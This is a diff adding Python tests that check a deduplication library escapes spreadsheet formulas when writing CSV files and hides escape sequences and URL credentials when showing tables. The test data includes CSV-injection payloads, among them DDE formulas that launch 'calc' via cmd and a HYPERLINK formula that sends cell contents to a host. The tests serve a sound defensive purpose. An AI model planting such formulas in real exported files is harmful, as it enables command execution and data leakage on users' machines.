@@ -20,6 +20,7 @@ from dedup_lib.tables import (
     free_column_name,
     load_list,
     save_table,
+    shown_table,
     split_text_copies,
 )
 
@@ -268,6 +269,52 @@ def test_no_url_column_is_guessed(columns: dict[str, list[str]], words: str) -> 
 ANY_CELL = st.text(st.characters(codec="utf-8", exclude_characters="\0")) | st.sampled_from(
     ["\r", "\n", "\r\n", '"', '""', ",", ";", "\t", "\ufeff", "https://h/a,b", " ", "\u2028", "\x85", "\x1c", "'", "NA"]
 )
+FORMULAS = (
+    *(
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://h/?"&A1)',
+        "+1+cmd|x!A",
+        "-1+A1",
+        "- item",
+        "@SUM(A1)",
+        "@name",
+    ),
+    *(
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "＝1+1",
+        "＋A1",
+        "－A1",
+        "＠A1",
+        "\ufeff=1",
+        "=",
+        "-2+3+cmd|' /C calc'!D2",
+        "+1e5A",
+        "-é",
+    ),
+)
+"""Cells that a spreadsheet runs, or may run."""
+
+HARMLESS = (
+    *("-5", "+49 30 123456", "+49 (30) 12-34/5", "-1,234.5", "-1.5e-3", "+2E+10", "-12 %", "-", "--", "+", "-07:30"),
+    *("a=1", " =1", "'", "'quoted'", "'-5", "''", "https://h/a?b=+c", "5-3", "me@h.example", "clips/-x.mp4", ""),
+)
+FORMULA_CELL = st.builds("{}{}{}".format, st.text("'", max_size=3), st.sampled_from([*FORMULAS, *HARMLESS]), ANY_CELL)
+
+
+def raw_cells(path: Path) -> list[str]:
+    """Every cell of a file as a spreadsheet sees it."""
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return [cell for record in csv.reader(file) for cell in record]
+
+
+def is_run(cell: str) -> bool:
+    """Whether a spreadsheet may run a cell: by its first character, unless it is made of a number's characters."""
+    bare = cell.lstrip("\ufeff")
+    numeric = set("0123456789+-.,:/()% eE")
+    return bare[:1] in set("=+-@\t\r\n＝＋－＠") and bool(bare) and not (bare[0] in "+-" and set(bare) <= numeric)
 
 
 @given(
@@ -278,6 +325,65 @@ def test_what_is_saved_is_loaded(tmp_path_factory: pytest.TempPathFactory, cells
     path = tmp_path_factory.mktemp("round") / "table.csv"
     save_table(frame, path)
     pd.testing.assert_frame_equal(load_list(path), frame)
+
+
+@given(st.lists(st.lists(FORMULA_CELL | ANY_CELL, min_size=3, max_size=3), min_size=1))
+def test_no_cell_that_is_saved_runs_and_every_one_is_loaded(
+    tmp_path_factory: pytest.TempPathFactory, cells: Cells
+) -> None:
+    frame = pd.DataFrame(cells, columns=["url", "=title", "'@note"], dtype="str")
+    path = tmp_path_factory.mktemp("round") / "table.csv"
+    save_table(frame, path)
+    assert not list(filter(is_run, raw_cells(path)))
+    pd.testing.assert_frame_equal(load_list(path), frame)
+    once = path.read_bytes()
+    save_table(load_list(path), path)
+    assert path.read_bytes() == once
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_a_formula_gets_an_apostrophe_even_as_a_header(tmp_path: Path, cell: str) -> None:
+    save_table(table({cell: [cell], "url": ["https://h/a"]}), tmp_path / "table.csv")
+    assert raw_cells(tmp_path / "table.csv") == [f"'{cell}", "url", f"'{cell}", "https://h/a"]
+    assert rows_of(load_list(tmp_path / "table.csv")) == [[cell, "url"], [cell, "https://h/a"]]
+
+
+@pytest.mark.parametrize("cell", HARMLESS)
+def test_what_is_no_formula_is_written_as_it_is(tmp_path: Path, cell: str) -> None:
+    save_table(table({"title": [cell], "url": ["https://h/a"]}), tmp_path / "table.csv")
+    assert raw_cells(tmp_path / "table.csv")[2] == cell
+    assert load_list(tmp_path / "table.csv")["title"].tolist() == [cell]
+
+
+def test_numbers_of_ours_are_no_formulas(tmp_path: Path) -> None:
+    save_table(pd.DataFrame({"offset_s": [-0.5, float("nan")], "n": [-1, 2]}), tmp_path / "table.csv")
+    assert raw_cells(tmp_path / "table.csv") == ["offset_s", "n", "-0.5", "-1", "", "2"]
+
+
+@given(st.lists(st.sampled_from([*FORMULAS, "https://h/a", "HTTPS://h/a", "'=1"]), max_size=8))
+def test_the_report_on_text_copies_comes_back(tmp_path_factory: pytest.TempPathFactory, urls: list[str]) -> None:
+    frame = table({"url": [*urls, *urls, "x"], "=note": [*urls, *reversed(urls), "x"]})
+    folder = tmp_path_factory.mktemp("split")
+    for name, one in zip("ab", split_text_copies(frame, url_column="url"), strict=True):
+        if len(one):
+            save_table(one, folder / name)
+            assert not list(filter(is_run, raw_cells(folder / name)))
+            assert rows_of(load_list(folder / name)) == rows_of(one.astype(str))
+
+
+def test_a_file_name_that_is_too_long_is_refused_with_a_remedy(tmp_path: Path) -> None:
+    with pytest.raises(ListError, match=r"a\.csv cannot be written .*rename the list or name the output"):
+        save_table(table({"url": ["x"]}), tmp_path / f"{'a' * 260}.csv")
+    (tmp_path / "file").write_text("")
+    with pytest.raises(ListError, match="make its folder writable"):
+        save_table(table({"url": ["x"]}), tmp_path / "file" / "a.csv")
+
+
+def test_a_table_is_shown_without_what_must_not_be() -> None:
+    frame = pd.DataFrame({"url\x1b": ["https://user:secret@h/a", "\x1b[2J"], "n": [1, 2]})
+    assert rows_of(shown_table(frame)) == [["url\\x1b", "n"], ["https://h/a", 1], ["\\x1b[2J", 2]]
+    assert frame["url\x1b"][0] == "https://user:secret@h/a"
+    assert list(shown_table(table({"a": []})).columns) == ["a"]
 
 
 def test_quoted_line_ends_do_not_outvote_the_delimiter(tmp_path: Path) -> None:
